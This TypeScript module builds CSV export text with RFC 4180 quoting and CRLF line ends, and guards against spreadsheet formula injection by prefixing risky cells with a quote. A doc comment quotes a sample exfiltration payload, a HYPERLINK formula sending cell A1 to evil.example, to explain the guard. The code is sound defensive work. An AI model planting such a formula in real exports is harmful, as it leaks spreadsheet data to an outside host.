/**
 * CSV text of export rows: RFC 4180 quoting (`csv-stringify`), CRLF line ends, every cell holding
 * a line break quoted (a bare `\n` or `\r` too, so a row stays one row in Excel and CRM imports),
 * and optional protection against spreadsheet formula injection.
 * @module
 */
import { stringify } from "csv-stringify/sync";

/** First characters that make a spreadsheet read a cell as a formula (with fullwidth forms). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
/** A plain decimal number (`-15`, `-2.5`, `-1e3`): a value, never a formula. */
const PLAIN_NUMBER = /^-?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;

/**
 * `cell` made safe to open in a spreadsheet: a text cell starting with `=`, `+`, `-`, `@`, tab or
 * carriage return gets a leading `'`, so it is shown as text instead of run as a formula (the
 * cells come from input files, web pages and registries, which anyone can write:
 * `=HYPERLINK("http://evil.example/?"&A1)`). A plain number such as `-15` is left as it is: it
 * cannot run anything, and escaped it would reach a spreadsheet or CRM as text.
 */
export function guardFormula(cell: string): string {
  return FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell) ? `'${cell}` : cell;
}

/** Options of {@linkcode csvText}. */
export interface CsvTextOptions {
  /** Field delimiter, one character. */
  delimiter: string;
  /**
   * Apply {@linkcode guardFormula} to every cell (default true), or per column: `[true, false]`
   * guards the first column's cells and not the second's (a column past the list is guarded).
   */
  escapeFormulas?: boolean | readonly boolean[];
}

/** CSV text of `rows` (each line ends with CRLF); empty for no rows. */
export function csvText(rows: string[][], options: CsvTextOptions): string {
  if (rows.length === 0) return "";
  const escape = options.escapeFormulas ?? true;
  const guarded = escape === false
    ? rows
    : escape === true
    ? rows.map((r) => r.map(guardFormula))
    : rows.map((r) => r.map((c, i) => (escape[i] ?? true) ? guardFormula(c) : c));
  return stringify(guarded, {
    delimiter: options.delimiter,
    record_delimiter: "\r\n",
    // With a record delimiter given, csv-stringify quotes only cells holding that exact "\r\n";
    // a lone "\n" (an address pasted on two lines) would then split the row in two.
    quote_record_delimiter: true,
  });
}
